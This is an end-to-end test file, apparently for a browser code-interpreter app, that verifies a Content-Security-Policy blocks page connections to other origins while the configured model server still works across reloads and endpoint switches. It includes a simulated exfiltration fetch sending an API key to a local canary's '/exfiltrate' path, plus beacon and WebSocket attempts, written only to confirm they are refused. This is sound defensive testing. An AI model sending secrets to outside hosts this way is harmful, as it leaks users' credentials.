// The app's CSP in Chromium (issue 6, item 3): once an endpoint is saved,
// web/app/csp.mjs adds a second policy, `connect-src 'self' <endpoint>
// <package location> <lock file>`, so a fetch from the page to any other
// origin is refused (a violation report, and 0 connections reach a canary)
// while the configured model server keeps working; after a reload the
// policy is there before any request. Saving an endpoint on a new origin
// says so in the settings dialog, reloads, reopens the settings with the
// new endpoint's model list, and keeps the conversation.
import test, { before, after } from 'node:test';
import assert from 'node:assert/strict';
import { launchBrowser, startApp, startCanary } from '../e2e/harness.mjs';
import { startLlmServer } from '../support/llm-server.mjs';
import { requireBuiltApp, configure, ask, waitIdle, waitReady } from '../e2e/app-helpers.mjs';
import { openSecureApp, collectViolations } from './security-helpers.mjs';

let app;
let llmA;
let llmB;
let canary;
let browser;
let s;

before(async () => {
  requireBuiltApp();
  app = await startApp({ isolation: true });
  llmA = await startLlmServer();
  llmB = await startLlmServer();
  canary = await startCanary();
  browser = await launchBrowser();
  s = await openSecureApp(browser, app.url);
});

after(async () => {
  await browser?.close();
  await canary?.close();
  await llmB?.close();
  await llmA?.close();
  await app?.close();
});

const policies = () => s.page.evaluate(() => [...document.querySelectorAll('meta[http-equiv="Content-Security-Policy"]')].map((m) => m.content));

/** fetch() from the page: 'ok' or the error's name. */
const pageFetch = (url) => s.page.evaluate((u) => fetch(u, { cache: 'no-store' }).then(() => 'ok', (e) => e.name), url);

test('first start: the static policy only (the endpoint is not chosen yet)', async () => {
  const p = await policies();
  assert.equal(p.length, 1, 'one policy before the first save');
  assert.match(p[0], /script-src 'self' 'wasm-unsafe-eval' blob: 'sha256-[^']+'(;| )/);
  assert.doesNotMatch(p[0], /'unsafe-inline'|'unsafe-eval'/);
  assert.match(p[0], /object-src 'none'/);
  assert.match(p[0], /base-uri 'none'/);
});

test('after the first save, fetch to another origin is refused; the endpoint works', async () => {
  await configure(s.page, { preset: 'custom', baseUrl: `${llmA.url}/v1`, format: 'openai', model: 'gpt-4o-mini', tools: true }, 'sk-csp');
  const p = await policies();
  assert.equal(p.length, 2, 'a second policy was added');
  assert.match(p[1], new RegExp(`^connect-src 'self' ${llmA.url.replace(/[.]/g, '\\.')} `), 'the endpoint\'s origin');
  assert.match(p[1], /https:\/\/cdn\.jsdelivr\.net/, 'the package location (Pyodide\'s CDN by default)');
  assert.doesNotMatch(p[1], /http:(?!\/\/)|https:(?!\/\/)|\*/, 'no scheme-wide or wildcard source');

  const v0 = s.violations.length;
  assert.equal(await pageFetch(`${canary.url}/exfiltrate?k=sk-csp`), 'TypeError', 'fetch to the canary fails');
  assert.equal(await s.page.evaluate((u) => new Promise((r) => { const ws = new WebSocket(u); ws.onerror = () => r('error'); ws.onopen = () => r('open'); }).catch((e) => e.name), canary.url.replace('http', 'ws')), 'error', 'WebSocket refused');
  const beacon = await s.page.evaluate((u) => navigator.sendBeacon(u, 'x'), `${canary.url}/beacon`);
  await s.page.waitForTimeout(1000);
  const refused = collectViolations(s.violations.slice(v0)).other.filter((v) => v.directive === 'connect-src');
  assert.ok(refused.length >= 2, `connect-src violations reported (${JSON.stringify(s.violations.slice(v0))})`);
  assert.equal(canary.counts.connections, 0, `no connection reached the canary (beacon queued: ${beacon})`);

  llmA.script([{ text: 'Hello from **A**.' }]);
  await ask(s.page, 'hi');
  await waitIdle(s.page, (v) => v.items.some((i) => i.kind === 'assistant' && i.text.includes('from **A**')));
  assert.equal(llmA.requests.filter((r) => r.method === 'POST').length, 1, 'the configured endpoint was reached');
  assert.equal(llmA.requests.at(-1).headers.authorization, 'Bearer sk-csp');
  assert.equal(await pageFetch(`${llmA.url}/v1/models`), 'ok', 'the endpoint is allowed');
  assert.equal(s.executions.length, 0);
});

test('after a reload the policy is in place at start', async () => {
  await s.page.reload();
  await waitReady(s.page);
  const p = await policies();
  assert.equal(p.length, 2);
  assert.ok(p[1].includes(llmA.url));
  const c0 = canary.counts.connections;
  assert.equal(await pageFetch(`${canary.url}/after-reload`), 'TypeError');
  assert.equal(canary.counts.connections - c0, 0);
});

test('an endpoint on a new origin: the dialog says so, saving reloads, settings reopen with its models, the conversation stays', async () => {
  const before = await s.page.evaluate(() => document.querySelector('code-interpreter').app.vm.currentId);
  await s.page.getByRole('button', { name: 'Settings' }).click();
  const dialog = s.page.locator('ci-settings dialog');
  await dialog.locator('input[name=baseUrl]').fill(`${llmB.url}/v1`);
  await dialog.locator('input[name=baseUrl]').press('Tab');
  await dialog.locator('[data-reload-note]').waitFor();
  assert.match(await dialog.locator('[data-reload-note]').innerText(), new RegExp(`Saving reloads the app to allow ${llmB.url.replace(/[.]/g, '\\.')}`));
  assert.equal(llmB.requests.length, 0, 'no model list fetched from a not-yet-allowed origin');
  const v0 = s.violations.length;
  await Promise.all([
    s.page.waitForEvent('load', { timeout: 60000 }),
    dialog.getByRole('button', { name: 'Save and reload' }).click(),
  ]);
  await waitReady(s.page);
  await s.page.locator('ci-settings dialog[open]').waitFor({ timeout: 30000 });
  await s.page.locator('ci-settings dialog select[name=model] option[value="gpt-4o-mini"]').waitFor({ state: 'attached' });
  assert.ok(llmB.requests.some((r) => r.path.endsWith('/models')), 'the new endpoint\'s model list loaded after the reload');
  const p = await policies();
  assert.ok(p[1].includes(llmB.url) && !p[1].includes(llmA.url), `the new policy lists B only: ${p[1]}`);
  assert.equal(await s.page.evaluate(() => document.querySelector('code-interpreter').app.vm.currentId), before, 'the same conversation is open');
  assert.ok((await s.page.evaluate(() => document.querySelector('code-interpreter').app.vm.items.length)) > 0, 'its messages are back');
  await s.page.locator('ci-settings dialog').getByRole('button', { name: 'Save', exact: true }).click();
  // The dialog closes once the settings are stored; until then it is modal and the composer is inert.
  await s.page.locator('ci-settings dialog[open]').waitFor({ state: 'detached', timeout: 30000 });
  llmB.script([{ text: 'Hello from B.' }]);
  await ask(s.page, 'hi B');
  await waitIdle(s.page, (v) => v.items.some((i) => i.kind === 'assistant' && i.text.includes('from B')));
  assert.deepEqual(s.violations.slice(v0), [], 'no violation on the way');
  const c0 = canary.counts.connections;
  assert.equal(await pageFetch(`${canary.url}/after-switch`), 'TypeError');
  assert.equal(canary.counts.connections - c0, 0);
  assert.equal(s.executions.length, 0);
});
